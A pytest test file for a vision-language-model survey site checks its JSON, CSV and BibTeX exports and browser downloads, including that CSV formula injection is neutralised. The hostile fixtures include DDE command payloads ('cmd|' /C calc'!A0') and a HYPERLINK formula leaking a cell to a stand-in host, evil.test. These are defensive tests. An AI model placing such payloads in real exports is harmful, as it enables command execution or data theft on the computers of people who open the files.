"""The data exports: written once into the site root, equal to the YAML, linked from the table pages,
and "download this view" in a real browser gives exactly the rows a filter left visible.

Every data value is hostile: CSV cells that a spreadsheet would run as a formula are neutralised (in
the site's files and in "download this view", by the same rule), the JSON is strict (no NaN), and a
download that fails says so next to the buttons."""

from __future__ import annotations

import copy
import csv
import io
import json
import math
import re
from pathlib import Path
from typing import Any

import pytest

from helpers import LANGS, ROOT, page_path, soup
from vlm_survey import exports
from vlm_survey.catalog import load_catalog
from vlm_survey.i18n import t

CATALOG = load_catalog(ROOT)
SCHEMAS = {c: json.loads((ROOT / "data" / "schema" / f"{c[:-1]}.schema.json").read_text(encoding="utf-8"))
           for c in exports.COLLECTIONS}
TABLE_PAGES = {"models": "architecture", "benchmarks": "benchmarks"}
SITE_URL = re.search(r"^site_url:\s*(\S+)", (ROOT / "mkdocs.yml").read_text(encoding="utf-8"), re.M).group(1)


def expected(entry: dict[str, Any]) -> dict[str, Any]:
    """An entry as the export should carry it: every field from YAML, nothing private."""
    return {key: value for key, value in entry.items() if not key.startswith("_")}


def folded(value: Any) -> str:
    return re.sub(r"\s+", " ", str(value)).strip()


def cell(value: Any) -> str:
    """A folded text value as its CSV cell: a `'` in front of what a spreadsheet reads as a formula."""
    text = folded(value)
    return "'" + text if text[:1] in ("=", "+", "-", "@") else text


def bib_entries(text: str) -> dict[str, str]:
    """key -> whole entry, for every @type{key, ...} in a .bib file."""
    return {m.group(1): m.group(0) for m in re.finditer(r"^@\w+\{([^,\s]+),.*?^\}", text, re.M | re.S)}


@pytest.mark.parametrize("collection", exports.COLLECTIONS)
def test_json_export_equals_the_data(site: Path, collection: str) -> None:
    document = json.loads((site / "data" / f"{collection}.json").read_text(encoding="utf-8"))
    assert re.fullmatch(r"\d+\.\d+", document["schema_version"])
    assert document["collection"] == collection and document["license"] == "CC-BY-4.0"
    entries = CATALOG.entries(collection)
    assert document["count"] == len(entries) == len(document["entries"])
    for exported, entry in zip(document["entries"], entries):
        pages = exported.pop("pages")
        assert exported == expected(entry)
        assert list(exported) == [f for f in SCHEMAS[collection]["properties"] if f in exported], "schema order"
        for lang, url in pages.items():
            assert url.endswith(f"/{collection}/{entry['id']}/")
            assert url.startswith(SITE_URL)
            assert (site / url[len(SITE_URL):] / "index.html").is_file(), f"{lang}: {url} is not a page of the site"


@pytest.mark.parametrize("collection", exports.COLLECTIONS)
def test_csv_export_equals_the_data(site: Path, collection: str) -> None:
    text = (site / "data" / f"{collection}.csv").read_text(encoding="utf-8")
    entries = CATALOG.entries(collection)
    assert len(text.splitlines()) == len(entries) + 1, "one line per entry (the view download relies on it)"
    rows = list(csv.DictReader(io.StringIO(text)))
    properties = SCHEMAS[collection]["properties"]
    assert next(iter(rows[0])) == "id"
    for row, entry in zip(rows, entries, strict=True):
        for field, rule in properties.items():
            value = entry.get(field)
            if rule.get("$ref") == "#/$defs/bilingual":
                for lang in LANGS:
                    assert row[f"{field}_{lang}"] == (cell(value[lang]) if value else ""), (entry["id"], field)
            elif value is None:
                assert row[field] == "", (entry["id"], field)
            elif isinstance(value, bool):
                assert row[field] == str(value).lower()
            elif isinstance(value, list) and value and isinstance(value[0], dict):
                assert json.loads(row[field]) == value
            elif isinstance(value, list):
                assert row[field].split("; ") == [str(v) for v in value], (entry["id"], field)  # ids, URLs
            elif isinstance(value, float):
                assert float(row[field]) == value
            else:
                assert row[field] == cell(value), (entry["id"], field)


def test_bibtex_export_has_the_survey_and_every_paper(site: Path) -> None:
    text = (site / "references.bib").read_text(encoding="utf-8")
    entries = bib_entries(text)
    for lang in LANGS:
        page = (ROOT / "docs" / lang / "references.md").read_text(encoding="utf-8")
        for block in re.findall(r"```bibtex\n(.*?)```", page, re.S):
            assert folded(block) in folded(text), f"{lang}/references.md entry missing from references.bib"
    papers = {**{m["id"]: m["paper"] for m in CATALOG.models},
              **{b["id"] if n == 0 else f'{b["id"]}_{n + 1}': url
                 for b in CATALOG.benchmarks for n, url in enumerate(b["papers"])}}
    assert set(papers) <= set(entries)
    assert len(entries) == len(papers) + 3, "the survey's three entries, then one per paper"
    for key, url in papers.items():
        entry = entries[key]
        assert re.search(r"^\s+url\s+= \{" + re.escape(url) + r"\},$", entry, re.M), f"{key}: no url {url}"
        assert entry.count("{") == entry.count("}"), f"{key}: unbalanced braces"


@pytest.mark.parametrize("lang", LANGS)
@pytest.mark.parametrize("collection", exports.COLLECTIONS)
def test_table_pages_link_the_exports(site: Path, lang: str, collection: str) -> None:
    from test_site import local_target

    path = page_path(site, lang, TABLE_PAGES[collection])
    box = soup(path).select_one(f"[data-vlm-downloads={collection}]")
    assert box is not None, f"{lang}: no download links on the {collection} page"
    targets = {local_target(site, path, a["href"])[0] for a in box.select("a[href]")}
    assert targets == {site / "data" / f"{collection}.csv", site / "data" / f"{collection}.json",
                       site / "references.bib"}
    assert [b["data-format"] for b in box.select("button[data-format]")] == ["csv", "json", "bibtex"]


def download(page: Any, selector: str) -> str:
    with page.expect_download() as info:
        page.click(selector)
    return Path(info.value.path()).read_bytes().decode("utf-8")  # as written: no newline translation


@pytest.mark.browser
@pytest.mark.parametrize("lang", LANGS)
def test_download_this_view_gives_the_visible_rows(page: Any, server: str, lang: str) -> None:
    """Hide rows the way a filter does (`hidden`, display: none), then download each format."""
    page.goto(f"{server}/{'en/' if lang == 'en' else ''}architecture/")
    shown = page.evaluate("""() => {
        const rows = [...document.querySelectorAll('table[data-vlm-table=models] tbody tr[data-entry]')];
        rows.forEach((row, i) => {
            if (row.dataset.paradigm !== 'llm-backbone') row.hidden = true;
            else if (i % 3 === 0) row.style.display = 'none';
        });
        return rows.filter(r => !r.hidden && r.style.display !== 'none').map(r => r.dataset.entry);
    }""")
    assert 3 < len(shown) < len(CATALOG.models)
    box = "[data-vlm-downloads=models]"
    as_json = json.loads(download(page, f"{box} button[data-format=json]"))
    assert [e["id"] for e in as_json["entries"]] == shown and as_json["count"] == len(shown)
    assert as_json["schema_version"] == exports.SCHEMA_VERSION
    as_csv = list(csv.DictReader(io.StringIO(download(page, f"{box} button[data-format=csv]"))))
    assert [row["id"] for row in as_csv] == shown
    as_bib = bib_entries(download(page, f"{box} button[data-format=bibtex]"))
    assert list(as_bib) == shown
    assert page.console_errors == []


# --- Hostile values -------------------------------------------------------------------------------

# Spaces the formula rule skips (exports.FORMULA_LEAD_SPACE), one from each end of every range.
LEAD_SPACES = ["\x00", "\x1f", " ", "\x7f", "\x85", "\xa0", "\u1680", "\u180e", "\u2000", "\u200b", "\u200f",
               "\u2028", "\u202f", "\u205f", "\u206f", "\u3000", "\ufeff"]
FORMULAS = ["=1+1", "+1", "-1", "@SUM(A1)", "-2+3+cmd|' /C calc'!A0", '=HYPERLINK("http://x.test","y")']


@pytest.mark.parametrize("text", [*FORMULAS, "\t=1", "\tplain", "\rplain", "\t", "\r", "-",
                                  *(space + "=1" for space in LEAD_SPACES), " \t @x", "\u3000\u3000-y"])
def test_a_cell_a_spreadsheet_would_run_gets_a_quote(text: str) -> None:
    assert exports.neutralise_formula(text) == "'" + text
    assert exports.neutralise_formula("'" + text) == "'" + text, "the rule applied twice adds a second quote"


@pytest.mark.parametrize("text", ["", "LLaVA-1.5", "7B-72B", "a=b", "C++", "'=quoted already", "1.5", "2024",
                                  "CLIP ViT-L/14", "视觉编码器", " plain", "\u2010=1", "!=1", "＝1", "\n"])
def test_a_legitimate_cell_is_left_as_it_is(text: str) -> None:
    assert exports.neutralise_formula(text) == text


@pytest.mark.parametrize(("value", "expected"), [
    ("=1+1", "'=1+1"),
    ("  =1+1  ", "'=1+1"),            # folded first: the leading spaces go, the quote comes
    ("\t=cmd\r\n", "'=cmd"),
    (" \t plain", "plain"),
    ("-", "'-"),
    (-3, "'-3"),                      # a number is written as its text, by the same rule
    (2.5, "2.5"),
    (["=a", "-b", "c"], "'=a; -b; c"),  # one cell, one quote, in front
    (["a", "=b"], "a; =b"),           # a formula starts a cell, not a list item in it
    ([{"field": "=x", "note": {"en": "=y"}}], '[{"field":"=x","note":{"en":"=y"}}]'),
    (None, ""),
    (True, "true"),
])
def test_csv_cell_neutralises_the_whole_cell(value: Any, expected: str) -> None:
    assert exports.csv_cell(value) == expected


HOSTILE_NUMBERS = [float("nan"), float("inf"), float("-inf")]


@pytest.mark.parametrize("number", HOSTILE_NUMBERS, ids=["nan", "inf", "-inf"])
@pytest.mark.parametrize("where", ["size_k", "summary.en", "papers[1]"])
def test_json_refuses_a_number_json_cannot_carry(number: float, where: str) -> None:
    """NaN or Infinity stops the export with a message naming the entry and the field."""
    entries = copy.deepcopy(CATALOG.entries("benchmarks")[:3])
    victim = entries[1]
    if where == "size_k":
        victim["size_k"] = number
    elif where == "summary.en":
        victim["summary"] = {"zh": "简介", "en": number}
    else:
        victim["papers"] = ["https://arxiv.org/abs/2401.00001", number]
    field = where
    with pytest.raises(exports.ExportError) as failure:
        exports.json_export("benchmarks", entries, SCHEMAS["benchmarks"], {"en": SITE_URL}, "https://example.test")
    message = str(failure.value)
    assert f"'{victim['id']}'" in message and field in message and "benchmarks" in message, message


def test_json_is_strict_even_outside_the_entries(monkeypatch: pytest.MonkeyPatch) -> None:
    """allow_nan=False is the last guard: a NaN the entry check does not see still fails, never writes NaN."""
    monkeypatch.setattr(exports, "SCHEMA_VERSION", float("nan"))
    with pytest.raises(exports.ExportError, match="benchmarks"):
        exports.json_export("benchmarks", CATALOG.entries("benchmarks")[:1], SCHEMAS["benchmarks"],
                            {"en": SITE_URL}, "https://example.test")


def test_a_failing_export_writes_no_file(tmp_path: Path) -> None:
    """Every export is rendered before any is written: a bad last collection leaves no half-written set."""
    entries = {c: copy.deepcopy(CATALOG.entries(c)) for c in exports.COLLECTIONS}
    entries["benchmarks"][-1]["size_k"] = float("nan")
    with pytest.raises(exports.ExportError, match=re.escape(repr(entries["benchmarks"][-1]["id"]))):
        exports.write_exports(tmp_path, ROOT, entries, {"zh": SITE_URL, "en": SITE_URL + "en/"}, "zh",
                              "https://example.test")
    assert list(tmp_path.rglob("*")) == []


def test_the_real_data_has_finite_numbers_only() -> None:
    """Sanity check of the test above: the real data passes the strict writer."""
    for collection in exports.COLLECTIONS:
        text = exports.json_export(collection, CATALOG.entries(collection), SCHEMAS[collection],
                                   {"en": SITE_URL}, "https://example.test")
        json.loads(text, parse_constant=lambda name: pytest.fail(f"{collection}: {name} in the JSON"))
        assert all(math.isfinite(v) for v in re.findall(r"\d+\.\d+", text) for v in [float(v)])


HOSTILE_MODEL = """\
id: hostile-formula
name: "=HYPERLINK(\\"http://evil.test/?leak=\\"&A1,\\"click\\")"
year: 2024
organization: "+cmd|' /C calc'!A0"
architecture_type: decoder-only
paradigm: llm-backbone
vision_encoder: "@SUM(1+1)*cmd|' /C calc'!A0"
llm_backbone: "-2+3+cmd|' /C calc'!A0"
connector: mlp-projector
parameters: "  =1+1"
training_data: "\\u3000=cmd|' /C calc'!A0"
open_weights: true
paper: https://arxiv.org/abs/2401.00001
summary:
  zh: "=1+1 以等号开头的简介"
  en: "- a summary that starts with a dash"
source: "\\xa0=cmd|' /C calc'!A0"
survey_version: later
title: "@SUM(2+2) a title that starts with an at sign"
authors: ["+cmd|' /C calc'!A0"]
"""


def augment(repo: Path) -> None:
    """Add one model whose every text is a formula to the working copy (conftest's `augmented` build)."""
    (repo / "data" / "models" / "hostile-formula.yaml").write_text(HOSTILE_MODEL, encoding="utf-8")


@pytest.fixture(scope="module")
def hostile_site(augmented: tuple[Path, Path]) -> Path:
    """The site built from a copy of the repository with that model (and the other scenarios' additions)."""
    return augmented[1]


@pytest.fixture(scope="module")
def hostile_server(augmented_server: str) -> str:
    return augmented_server


def hostile_cells(row: dict[str, str]) -> dict[str, str]:
    """The hostile model's cells that hold a formula, as a spreadsheet would read them (`'` = text)."""
    return {k: v for k, v in row.items() if k not in ("id", "year", "open_weights", "paper", "survey_version",
                                                       "architecture_type", "paradigm", "connector")}


def assert_no_formula(text: str) -> None:
    """No cell of the CSV starts (past spaces) with a character that makes it a formula."""
    for record in csv.reader(io.StringIO(text)):
        for value in record:
            assert not exports.FORMULA_CELL.match(value), f"formula cell in the CSV: {value!r}"


def test_hostile_values_reach_the_site_csv_as_text(hostile_site: Path) -> None:
    text = (hostile_site / "data" / "models.csv").read_text(encoding="utf-8")
    assert_no_formula(text)
    row = next(r for r in csv.DictReader(io.StringIO(text)) if r["id"] == "hostile-formula")
    cells = hostile_cells(row)
    assert cells["name"] == "'" + '=HYPERLINK("http://evil.test/?leak="&A1,"click")'
    assert cells["organization"] == "'+cmd|' /C calc'!A0"
    assert cells["vision_encoder"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert cells["llm_backbone"] == "'-2+3+cmd|' /C calc'!A0"
    assert cells["parameters"] == "'=1+1"
    assert cells["training_data"] == "'=cmd|' /C calc'!A0"
    assert cells["source"] == "'=cmd|' /C calc'!A0"
    assert cells["summary_zh"] == "'=1+1 以等号开头的简介"
    assert cells["summary_en"] == "'- a summary that starts with a dash"
    assert cells["title"] == "'@SUM(2+2) a title that starts with an at sign"
    # JSON is not a spreadsheet: it carries the values as written
    document = json.loads((hostile_site / "data" / "models.json").read_text(encoding="utf-8"))
    entry = next(e for e in document["entries"] if e["id"] == "hostile-formula")
    assert entry["organization"] == "+cmd|' /C calc'!A0" and entry["summary"]["en"].startswith("- a summary")


@pytest.mark.browser
def test_download_this_view_keeps_hostile_cells_as_text(page: Any, hostile_server: str, hostile_site: Path) -> None:
    """The view download of a table with a hostile entry: the same neutralised cells, byte for byte."""
    page.goto(f"{hostile_server}/en/architecture/")
    site_csv = (hostile_site / "data" / "models.csv").read_text(encoding="utf-8")
    box = "[data-vlm-downloads=models]"
    everything = download(page, f"{box} button[data-format=csv]")
    assert everything.splitlines()[0] == site_csv.splitlines()[0]
    assert sorted(everything.splitlines()[1:]) == sorted(site_csv.splitlines()[1:]), "the view rewrote cells"
    page.fill(".vlm-filter input[type=search]", "HYPERLINK")
    page.wait_for_function("() => document.querySelectorAll('table[data-vlm-table=models] tbody tr:not([hidden])')"
                           ".length === 1")
    view = download(page, f"{box} button[data-format=csv]")
    assert_no_formula(view)
    rows = list(csv.DictReader(io.StringIO(view)))
    assert [r["id"] for r in rows] == ["hostile-formula"]
    expected = next(r for r in csv.DictReader(io.StringIO(site_csv)) if r["id"] == "hostile-formula")
    assert rows[0] == expected
    assert rows[0]["summary_en"] == "'- a summary that starts with a dash"
    assert page.console_errors == []


def raw_csv(records: list[list[str]]) -> str:
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n", quoting=csv.QUOTE_ALL).writerows(records)  # a quoted \r too
    return buffer.getvalue()


@pytest.mark.browser
def test_download_this_view_neutralises_by_the_same_rule(page: Any, server: str) -> None:
    """exports.js applies the rule itself, to a CSV that was not neutralised (a stale or foreign file):
    every cell it writes is what vlm_survey/exports.py makes of the same text."""
    page.goto(f"{server}/architecture/")
    ids = page.eval_on_selector_all("table[data-vlm-table=models] tbody tr[data-entry]",
                                    "rows => rows.map(r => r.dataset.entry)")
    texts = [*FORMULAS, "\t=1", "\tplain", "\rplain", "-", "plain", "a=b", "7B-72B", "'=done", " plain",
             "\u2010=1", "＝1", "", 'say "=hi", twice', "=a\nb", *(space + "=1" for space in LEAD_SPACES)]
    width = -(-len(texts) // len(ids))  # texts per row
    header = ["id", *(f"text_{n}" for n in range(width)), "=header"]
    records = [header] + [[entry, *texts[i * width:(i + 1) * width]] for i, entry in enumerate(ids)]
    records = [record + [""] * (len(header) - len(record)) for record in records]
    page.route("**/data/models.csv", lambda route: route.fulfill(
        status=200, content_type="text/csv; charset=utf-8", body=raw_csv(records)))
    view = download(page, "[data-vlm-downloads=models] button[data-format=csv]")
    got = list(csv.reader(io.StringIO(view)))
    assert got == [[exports.neutralise_formula(value) for value in record] for record in records]
    assert sum(value.startswith("'") for record in got for value in record) > len(LEAD_SPACES) + len(FORMULAS)
    assert page.console_errors == []


FAILED = {"zh": "下载失败：", "en": "Download failed: "}


@pytest.mark.browser
@pytest.mark.parametrize("lang", LANGS)
def test_a_failed_download_says_so_next_to_the_buttons(page: Any, server: str, lang: str) -> None:
    """A browser that refuses the file (createObjectURL throws), then a fetch that fails: each is told."""
    page.add_init_script("URL.createObjectURL = () => { throw new Error('blocked by test'); };")
    page.goto(f"{server}/{'en/' if lang == 'en' else ''}architecture/")
    box = page.locator("[data-vlm-downloads=models]")
    message = box.locator("[role=alert], [role=status]")
    assert message.count() == 1 and message.inner_text() == ""
    button = box.locator("button[data-format=csv]")
    button.click()
    page.wait_for_function("el => el.textContent !== ''", arg=message.element_handle(), timeout=5_000)
    text = message.inner_text()
    assert text.startswith(FAILED[lang]) and "blocked by test" in text, text
    assert t(lang, "exports.failed").split("{reason}")[1].strip() in text
    assert message.is_visible()
    assert button.is_enabled(), "the button stays disabled after a failure"

    page.route("**/data/models.json", lambda route: route.abort())
    box.locator("button[data-format=json]").click()
    page.wait_for_function("el => el.textContent.includes('blocked') === false && el.textContent !== ''",
                           arg=message.element_handle(), timeout=5_000)
    assert message.inner_text().startswith(FAILED[lang])
    assert [e for e in page.console_errors if "net::ERR_FAILED" not in e] == []
